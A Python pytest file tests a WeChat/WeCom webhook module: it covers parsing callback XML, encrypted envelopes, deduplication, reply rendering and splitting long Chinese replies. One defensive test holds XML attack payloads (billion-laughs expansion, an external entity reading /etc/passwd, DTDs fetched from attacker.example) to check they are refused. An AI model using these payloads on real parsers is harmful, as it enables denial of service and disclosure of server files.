"""Callback XML → typed messages, replies → XML, and splitting long replies."""
import time

import pytest
import wechatpy
import xmltodict
from hypothesis import given
from hypothesis import strategies as st
from wechatpy.crypto import WeChatCrypto as WechatpyOfficialAccount
from wechatpy.enterprise.crypto import WeChatCrypto as WechatpyWeCom

from webhook.channels.wxcrypto import MessageCrypto, ProtocolError
from webhook.channels.wxmessages import (REPLY_LIMIT, BadXml, Event, ImageMessage, LinkMessage,
                                         LocationMessage, ShortVideoMessage, TextMessage,
                                         UnknownMessage, VideoMessage, VoiceMessage, dedupe_key,
                                         parse_envelope, parse_message, render_encrypted_reply,
                                         render_text_reply, split_text)
from tests.webhook.test_wxcrypto import AES_KEY, CORP_ID, OA, OA_REQUEST, REQUEST, TOKEN

HEAD = ("<ToUserName><![CDATA[toUser]]></ToUserName><FromUserName><![CDATA[fromUser]]></FromUserName>"
        "<CreateTime>1348831860</CreateTime>")
BASE = {"to_user": "toUser", "from_user": "fromUser", "create_time": 1348831860}


def xml(body: str, head: str = HEAD) -> str:
    return f"<xml>{head}{body}</xml>"


# Bodies as the Official Account docs show them (接收普通消息 / 接收事件推送,
# developers.weixin.qq.com/doc/offiaccount/Message_Management/Receiving_standard_messages.html).
@pytest.mark.parametrize("body, expected", [
    ("<MsgType><![CDATA[text]]></MsgType><Content><![CDATA[this is a test]]></Content>"
     "<MsgId>1234567890123456</MsgId>",
     TextMessage(**BASE, msg_id="1234567890123456", content="this is a test")),
    ("<MsgType><![CDATA[image]]></MsgType><PicUrl><![CDATA[this is a url]]></PicUrl>"
     "<MediaId><![CDATA[media_id]]></MediaId><MsgId>1234567890123456</MsgId>",
     ImageMessage(**BASE, msg_id="1234567890123456", pic_url="this is a url", media_id="media_id")),
    ("<MsgType><![CDATA[voice]]></MsgType><MediaId><![CDATA[media_id]]></MediaId>"
     "<Format><![CDATA[Format]]></Format><Recognition><![CDATA[腾讯微信团队]]></Recognition>"
     "<MsgId>1234567890123456</MsgId>",
     VoiceMessage(**BASE, msg_id="1234567890123456", media_id="media_id", format="Format",
                  recognition="腾讯微信团队")),
    ("<MsgType><![CDATA[voice]]></MsgType><MediaId><![CDATA[media_id]]></MediaId>"
     "<Format><![CDATA[amr]]></Format><MsgId>1234567890123456</MsgId><AgentID>1</AgentID>",
     VoiceMessage(**BASE, msg_id="1234567890123456", agent_id="1", media_id="media_id", format="amr")),
    ("<MsgType><![CDATA[video]]></MsgType><MediaId><![CDATA[media_id]]></MediaId>"
     "<ThumbMediaId><![CDATA[thumb_media_id]]></ThumbMediaId><MsgId>1234567890123456</MsgId>",
     VideoMessage(**BASE, msg_id="1234567890123456", media_id="media_id", thumb_media_id="thumb_media_id")),
    ("<MsgType><![CDATA[shortvideo]]></MsgType><MediaId><![CDATA[media_id]]></MediaId>"
     "<ThumbMediaId><![CDATA[thumb_media_id]]></ThumbMediaId><MsgId>1234567890123456</MsgId>",
     ShortVideoMessage(**BASE, msg_id="1234567890123456", media_id="media_id",
                       thumb_media_id="thumb_media_id")),
    ("<MsgType><![CDATA[location]]></MsgType><Location_X>23.134521</Location_X>"
     "<Location_Y>113.358803</Location_Y><Scale>20</Scale><Label><![CDATA[位置信息]]></Label>"
     "<MsgId>1234567890123456</MsgId>",
     LocationMessage(**BASE, msg_id="1234567890123456", latitude=23.134521, longitude=113.358803,
                     scale=20, label="位置信息")),
    ("<MsgType><![CDATA[link]]></MsgType><Title><![CDATA[公众平台官网链接]]></Title>"
     "<Description><![CDATA[公众平台官网链接]]></Description><Url><![CDATA[url]]></Url>"
     "<MsgId>1234567890123456</MsgId>",
     LinkMessage(**BASE, msg_id="1234567890123456", title="公众平台官网链接", description="公众平台官网链接",
                 url="url")),
    ("<MsgType><![CDATA[event]]></MsgType><Event><![CDATA[subscribe]]></Event>",
     Event(**BASE, event="subscribe")),
    ("<MsgType><![CDATA[event]]></MsgType><Event><![CDATA[SCAN]]></Event>"
     "<EventKey><![CDATA[SCENE_VALUE]]></EventKey><Ticket><![CDATA[TICKET]]></Ticket>",
     Event(**BASE, event="scan", event_key="SCENE_VALUE")),
    ("<MsgType><![CDATA[event]]></MsgType><Event><![CDATA[LOCATION]]></Event>"
     "<Latitude>23.137466</Latitude><Longitude>113.352425</Longitude><Precision>119.385040</Precision>",
     Event(**BASE, event="location")),
    ("<MsgType><![CDATA[event]]></MsgType><Event><![CDATA[CLICK]]></Event>"
     "<EventKey><![CDATA[EVENTKEY]]></EventKey>",
     Event(**BASE, event="click", event_key="EVENTKEY")),
    ("<MsgType><![CDATA[event]]></MsgType><Event><![CDATA[VIEW]]></Event>"
     "<EventKey><![CDATA[www.qq.com]]></EventKey>",
     Event(**BASE, event="view", event_key="www.qq.com")),
    ("<MsgType><![CDATA[event]]></MsgType><Event><![CDATA[unsubscribe]]></Event><EventKey><![CDATA[]]></EventKey>",
     Event(**BASE, event="unsubscribe")),
], ids=["text", "image", "voice-recognised", "voice-wecom", "video", "shortvideo", "location", "link",
        "subscribe", "scan", "location-event", "click", "view", "unsubscribe-empty-key"])
def test_documented_messages_parse(body, expected):
    assert parse_message(xml(body)) == expected


def test_text_keeps_its_whitespace_and_markup():
    body = "<MsgType>text</MsgType><Content><![CDATA[  我想问 <助餐> &补贴\n]]></Content>"
    assert parse_message(xml(body).encode("utf-8")).content == "  我想问 <助餐> &补贴\n"


@pytest.mark.parametrize("msg_type", ["miniprogrampage", "file", "Transfer_Customer_Service"])
def test_unknown_message_types_are_messages_not_errors(msg_type):
    message = parse_message(xml(f"<MsgType>{msg_type}</MsgType><MsgId>42</MsgId>"))
    assert message == UnknownMessage(**BASE, msg_id="42", type=msg_type.lower())


def test_the_official_wecom_request_parses_end_to_end():
    """Envelope → signature, freshness and decryption → message, on Tencent's sample request."""
    to_user, encrypted, agent_id = parse_envelope(
        f"<xml><ToUserName><![CDATA[{CORP_ID}]]></ToUserName><Encrypt><![CDATA[{REQUEST[3]}]]></Encrypt>"
        "<AgentID><![CDATA[218]]></AgentID></xml>")
    assert (to_user, encrypted, agent_id) == (CORP_ID, REQUEST[3], "218")
    plain = MessageCrypto(TOKEN, AES_KEY, CORP_ID).check(*REQUEST[:3], encrypted, now=float(REQUEST[1]))
    assert parse_message(plain) == TextMessage(
        to_user=CORP_ID, from_user="mycreate", create_time=1409659813, msg_id="4561255354251345929",
        agent_id="218", content="hello")


def test_the_official_account_compatible_mode_body_has_an_envelope():
    """Compatible mode posts plain fields and Encrypt side by side (Tencent's OA sample from_xml)."""
    body = ("<xml><ToUserName><![CDATA[gh_10f6c3c3ac5a]]></ToUserName>"
            "<FromUserName><![CDATA[oyORnuP8q7ou2gfYjqLzSIWZf0rs]]></FromUserName>"
            "<CreateTime>1409735668</CreateTime><MsgType><![CDATA[text]]></MsgType>"
            "<Content><![CDATA[abcdteT]]></Content><MsgId>6054768590064713728</MsgId>"
            f"<Encrypt><![CDATA[{OA_REQUEST[3]}]]></Encrypt></xml>")
    assert parse_envelope(body) == ("gh_10f6c3c3ac5a", OA_REQUEST[3], None)
    assert parse_message(body).content == "abcdteT"


@pytest.mark.parametrize("body", [
    "<xml><ToUserName>wx1</ToUserName></xml>",
    "<xml><ToUserName>wx1</ToUserName><Encrypt><![CDATA[  ]]></Encrypt></xml>",
], ids=["missing", "blank"])
def test_an_envelope_without_ciphertext_is_bad(body):
    with pytest.raises(BadXml, match="Encrypt"):
        parse_envelope(body)


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<xml><ToUserName>a</ToUserName><FromUserName>b</FromUserName><CreateTime>1</CreateTime>
<MsgType>text</MsgType><Content>&lol9;</Content></xml>"""
EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<xml><ToUserName>a</ToUserName><FromUserName>b</FromUserName><CreateTime>1</CreateTime>
<MsgType>text</MsgType><Content>&xxe;</Content></xml>"""
PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]><xml/>"""


@pytest.mark.parametrize("body", [
    BILLION_LAUGHS,
    EXTERNAL_ENTITY,
    PARAMETER_ENTITY,
    '<!DOCTYPE xml SYSTEM "http://attacker.example/x.dtd"><xml/>',
], ids=["billion-laughs", "external-entity", "parameter-entity", "external-dtd"])
def test_dtds_and_entities_are_refused(body):
    with pytest.raises(BadXml, match="DTD"):
        parse_message(body)


@pytest.mark.parametrize("body", [
    "",
    "hello",
    "<xml><ToUserName>a</ToUserName>",
    "<xml></xml><xml></xml>",
    "<xml>&undefined;</xml>",
    xml("<MsgType>text</MsgType><Content>长者饭堂</Content>").encode("gbk"),
    ('<?xml version="1.0" encoding="GBK"?>' + xml("<MsgType>text</MsgType><Content>长者饭堂</Content>")).encode("gbk"),
    b"<xml>\xff\xfe</xml>",
    "<root>" + HEAD + "<MsgType>text</MsgType><Content>x</Content></root>",
    xml("<Content>x</Content>"),
    xml("<MsgType>text</MsgType>"),
    xml("<MsgType>text</MsgType><Content>x</Content>", head=HEAD.replace("toUser", "")),
    xml("<MsgType>text</MsgType><Content>x</Content>", head="<ToUserName>a</ToUserName>"),
    xml("<MsgType>text</MsgType><Content>x</Content>", head=HEAD.replace("1348831860", "yesterday")),
    xml("<MsgType>location</MsgType><Location_X>nan</Location_X><Location_Y>1</Location_Y>"
        "<Scale>1</Scale><Label>x</Label>"),
    xml("<MsgType>event</MsgType>"),
    xml("<MsgType> </MsgType>"),
], ids=["empty", "not-xml", "unclosed", "two-roots", "undefined-entity", "gbk-bytes", "gbk-declared",
        "invalid-utf8", "wrong-root", "no-msgtype", "text-without-content", "blank-to-user", "no-from-user",
        "bad-create-time", "nan-latitude", "event-without-event", "blank-msgtype"])
def test_malformed_or_incomplete_bodies_are_bad_xml(body):
    with pytest.raises(BadXml) as caught:
        parse_message(body)
    assert isinstance(caught.value, ProtocolError) and isinstance(caught.value, ValueError)


def test_dedupe_key_is_the_msg_id_when_there_is_one():
    body = xml("<MsgType>text</MsgType><Content>x</Content><MsgId>1234567890123456</MsgId>")
    assert dedupe_key(parse_message(body)) == "1234567890123456"


def test_events_dedupe_on_sender_time_and_event():
    subscribe = parse_message(xml("<MsgType>event</MsgType><Event>subscribe</Event>"))
    click = parse_message(xml("<MsgType>event</MsgType><Event>CLICK</Event><EventKey>K</EventKey>"))
    assert dedupe_key(subscribe) == "fromUser|1348831860|subscribe"
    assert dedupe_key(subscribe) != dedupe_key(click)
    assert dedupe_key(parse_message(xml("<MsgType>event</MsgType><Event>subscribe</Event>"))) == dedupe_key(subscribe)


def test_messages_without_msg_id_dedupe_on_sender_and_time():
    assert dedupe_key(parse_message(xml("<MsgType>file</MsgType>"))) == "fromUser|1348831860"


INCOMING = TextMessage(to_user="gh_10f6c3c3ac5a", from_user="oyORnuP8q7ou2gfYjqLzSIWZf0rs",
                       create_time=1409735668, msg_id="6054768590064713728", content="天河有长者饭堂吗")
REPLIES = ["您好！天河区有长者饭堂。", "CDATA end ]]> inside, twice ]]>]]>", "<b>&amp; not markup</b>",
           "emoji 👵🏻 and\nnew lines", ""]


@pytest.mark.parametrize("text", REPLIES, ids=["chinese", "cdata-end", "markup", "emoji", "empty"])
def test_wechatpy_reads_our_text_reply(text):
    reply = wechatpy.parse_message(render_text_reply(INCOMING, text, now=1409735670))
    assert (reply.type, reply.source, reply.target) == ("text", INCOMING.to_user, INCOMING.from_user)
    assert (reply.content or "") == text and reply.time == 1409735670


@pytest.mark.parametrize("text", REPLIES, ids=["chinese", "cdata-end", "markup", "emoji", "empty"])
def test_our_text_reply_parses_back(text):
    assert parse_message(render_text_reply(INCOMING, text, now=7)) == TextMessage(
        to_user=INCOMING.from_user, from_user=INCOMING.to_user, create_time=7, content=text)


def test_characters_xml_cannot_carry_are_dropped():
    reply = render_text_reply(INCOMING, "bell\x07 nul\x00 ok\ufffe", now=7)
    assert xmltodict.parse(reply)["xml"]["Content"] == "bell nul ok"


def test_reply_time_defaults_to_now():
    assert abs(parse_message(render_text_reply(INCOMING, "x")).create_time - time.time()) < 5


@pytest.mark.parametrize("client, account", [
    pytest.param(WechatpyOfficialAccount, OA, id="official-account"),
    pytest.param(WechatpyWeCom, (TOKEN, AES_KEY, CORP_ID), id="wecom"),
])
def test_wechatpy_opens_our_encrypted_reply(client, account):
    reply = render_text_reply(INCOMING, "您好，请问您在哪个区？", now=1409735670)
    encrypted, signature, timestamp, nonce = MessageCrypto(*account).encrypt(reply)
    envelope = render_encrypted_reply(encrypted, signature, timestamp, nonce)
    plain = client(*account).decrypt_message(envelope, signature, timestamp, nonce)
    assert wechatpy.parse_message(plain).content == "您好，请问您在哪个区？"
    assert xmltodict.parse(envelope)["xml"]["TimeStamp"] == timestamp


# --- split_text -----------------------------------------------------------------------------

def utf8(text: str) -> int:
    return len(text.encode("utf-8"))


@given(st.text(), st.integers(min_value=4, max_value=80))
def test_parts_fit_and_join_back(text, limit):
    parts = split_text(text, limit)
    assert "".join(parts) == text
    assert all(0 < utf8(part) <= limit for part in parts)


@given(st.text(alphabet="养老服务补贴。，！\n👵 ab", min_size=1, max_size=3000))
def test_parts_fit_the_platform_limit(text):
    parts = split_text(text)
    assert "".join(parts) == text and all(utf8(part) <= REPLY_LIMIT for part in parts)


def test_split_prefers_sentence_ends():
    text = "第一句话说完了。第二句话也说完了！第三句？"
    parts = split_text(text, utf8("第一句话说完了。第二句"))
    assert parts == ["第一句话说完了。", "第二句话也说完了！", "第三句？"]


def test_split_falls_back_to_commas_then_a_hard_cut():
    assert split_text("甲乙丙丁，戊己庚辛壬癸", 18) == ["甲乙丙丁，", "戊己庚辛壬癸"]
    assert split_text("甲乙丙丁戊己庚辛壬癸", 12) == ["甲乙丙丁", "戊己庚辛", "壬癸"]


def test_an_early_boundary_does_not_waste_a_message():
    assert split_text("好。" + "养" * 10, 12) == ["好。养养", "养养养养", "养养养养"]


def test_split_never_cuts_a_character():
    assert split_text("👵👵👵", 5) == ["👵", "👵", "👵"]


def test_short_and_empty_texts():
    assert split_text("您好") == ["您好"]
    assert split_text("") == []


def test_limit_below_one_character_is_refused():
    with pytest.raises(ValueError, match="at least 4"):
        split_text("abc", 3)
